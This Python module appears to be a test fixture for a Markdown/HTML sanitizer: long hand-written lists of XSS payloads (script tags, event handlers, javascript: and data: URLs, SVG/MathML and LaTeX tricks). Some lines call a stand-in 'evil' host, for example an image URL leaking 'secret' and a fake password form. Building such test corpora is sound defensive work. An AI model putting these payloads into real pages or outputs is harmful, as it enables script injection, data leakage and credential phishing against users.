# ruff: noqa: E501, SIM905  (payloads stay in one piece)
"""Written by hand: Markdown and HTML that want to run, send or imitate. What is made of parts: `xss_corpus.py`."""

from __future__ import annotations

HTML = """
<script>alert(1)</script>
<SCRIPT SRC=http://evil/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script >
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src="http://evil/pixel.png">
<img src='//evil/pixel.png'>
<img srcset="http://evil/a 1x" src=x>
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>">
<img src=`javascript:alert(1)`>
<img/src/onerror=alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<mi xlink:href="javascript:alert(1)">x</mi>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code=x></applet>
<base href="http://evil/">
<link rel=stylesheet href=http://evil/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import 'http://evil/x.css';</style>
<style>body{background:url(http://evil)}</style>
<div style="background:url(http://evil)">x</div>
<b style="position:fixed;inset:0">x</b>
<form action="http://evil"><input name=password><button>Sign in</button></form>
<input autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<button data-cite="1" hx-get="/logout">x</button>
<select onchange=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<video src=http://evil/x autoplay onplay=alert(1)></video>
<video poster=http://evil/x></video>
<audio src=x onerror=alert(1)></audio>
<source src=http://evil>
<track src=http://evil>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=x onclick=alert(1)>x</a>
<a ping="http://evil" href="/x">x</a>
<area href="javascript:alert(1)">
<p id="composer" name="x" class="modal">x</p>
<div hx-get="/api/delete" hx-trigger="load">x</div>
<div data-hx-post="/api/delete" data-hx-trigger="load">x</div>
<br onclick=alert(1)>
<sub onmouseover=alert(1)>x</sub>
<sup/onmouseover=alert(1)>x</sup>
<mark style="color:red">x</mark>
<kbd class="modal">x</kbd>
<sub><sup></sub></sup><mark>
</p></div></body><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html SYSTEM "http://evil">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title></title><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<textarea></textarea><script>alert(1)</script>
<custom-element onclick=alert(1)>x</custom-element>
<portal src="http://evil">
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<isindex type=image src=1 onerror=alert(1)>
<table background="http://evil"><td background="javascript:alert(1)">
<slot name=x onslotchange=alert(1)>
<dialog open><form method=dialog>x</form></dialog>
<span class="cite" data-cite="99">x</span>
<a target=_top href="http://evil">x</a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
<\x00script>alert(1)</script>
<script\x0b>alert(1)</script>
\ufdd00\ufdd1<script>alert(1)</script>\ufdd2
\ufdd099999999999999\ufdd1
""".strip().split("\n")

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript:alert(1))
[x](java&Tab;script:alert(1))
[x](<java script:alert(1)>)
[x](\javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/svg+xml;base64,PHN2Zz4=)
[x](blob:http://x/y)
[x](file:///etc/passwd)
[x](//evil/path)
[x](/\evil)
[x](\\evil)
[x](http:evil)
[x](feed:javascript:alert(1))
[x](view-source:javascript:alert(1))
[x](http://a" onclick="alert(1))
[x](http://a 'title" onmouseover="alert(1)')
[x](http://a "t\" onmouseover=\"alert(1)")
[x](<http://a"onclick=alert(1)>)
[x]( javascript:alert(1))
[x][y]<br>[y]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
<http://a"onclick=alert(1)//>
http://a"onmouseover=alert(1)
http://a<script>alert(1)</script>
https://user:pass@evil/'onclick='alert(1)
javascript:alert(1)
![x](http://evil/?q=secret)
![x](https://evil/x.png "t")
![x](//evil/x.png)
![x](/\evil/x.png)
![x](\\evil\x.png)
![x](/&Tab;/evil/x.png)
![x](&#10;//evil/x.png)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](data:text/html;base64,PHN2Zz4=)
![x](data:image/png;base64,AAAA"onerror=alert(1))
![x](data:image/png,javascript)
![x" onerror="alert(1)](/a.png)
![x](/a.png "t\" onerror=\"alert(1)")
![x](ftp://evil/x.png)
![x](http:/evil/x.png)
![x](https:evil.png)
![x][y]<br>[y]: http://evil/x.png
[![x](http://evil/x.png)](javascript:alert(1))
[![x](http://evil/x.png)](http://evil/)
[a ![b ![c](http://e/1)](http://e/2)](http://e/3)
`<script>alert(1)</script>`
``<img src=x onerror=alert(1)>``
[1](javascript:alert(1))
[1]<script>alert(1)</script>[2]
[1](x "onclick=alert(1)")[2]
[1,<script>]
[^<script>alert(1)</script>]
[^1" onclick="alert(1)]
[1[1]1](http://x)
# <script>alert(1)</script>
# [x](javascript:alert(1)) {onclick=alert(1)}
> <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
| <img src=x onerror=alert(1)> |
| a |~|---|~| <script>alert(1)</script> |
> [!NOTE" onclick="alert(1)]
> [!NOTE]<script>alert(1)</script>
- [x] <script>alert(1)</script>
**<script>alert(1)</script>**
~~<img src=x onerror=alert(1)>~~
```<script>~alert(1)~```
```" onclick="alert(1)~x~```
```html~<script>alert(1)</script>~```
```python"><img/src/onerror=alert(1)>~x~```
```svg~<svg onload=alert(1)>~```
```javascript:alert(1)~x~```
~~~ <img src=x onerror=alert(1)>~x~~~~
```~</code></pre><script>alert(1)</script>~```
```html~</code></pre><img src=x onerror=alert(1)>
```diff~+<script>alert(1)</script>~```
    <script>alert(1)</script>
$<script>alert(1)</script>$
$\text{<script>alert(1)</script>}$
$\text{&lt;img src=x onerror=alert(1)&gt;}$
$\mbox{<img src=x onerror=alert(1)>}$
$\href{javascript:alert(1)}{x}$
$\style{background:url(http://evil)}{x}$
$\class{modal}{x}$
$\color{red" onclick="alert(1)}{x}$
$\textcolor{javascript:alert(1)}{x}$
$\rule{1em" onclick="alert(1)}{1em}$
$\unicode{x3c}script\unicode{x3e}$
$\includegraphics{http://evil/x.png}$
$\begin{array}{c" onclick="x} a \end{array}$
$\operatorname{<script>}$
$\verb|<script>alert(1)</script>|$
$\tag{<script>alert(1)</script>}$
$\fbox{<iframe src=javascript:alert(1)>}$
$\newcommand{\x}{<script>}\x$
$\colorbox{url(http://evil)}{x}$
$$<img src=x onerror=alert(1)>$$
\(<img src=x onerror=alert(1)>\)
\[<svg onload=alert(1)>\]
\(\foo<script>alert(1)</script>\)
$$~<script>alert(1)</script>~$$
$$~<script>alert(1)</script>
\[~</div><script>alert(1)</script>
`$`<script>`$`
$`<script>alert(1)</script>`$
**$<img src=x onerror=alert(1)>$**
[$\text{x}$](javascript:alert(1))
[x](http://a/$<script>alert(1)</script>$)
![$<script>$](http://evil/$x$)
<a title="$x$" onclick=alert(1)>
中**<script>alert(1)</script>。**文
""".strip().split("\n")

PAYLOADS = [
    payload.replace("~", "\n") if "```" in payload or "$$" in payload or payload[:2] in ("\\[", "| ") else payload
    for payload in [*HTML, *MARKDOWN]
]
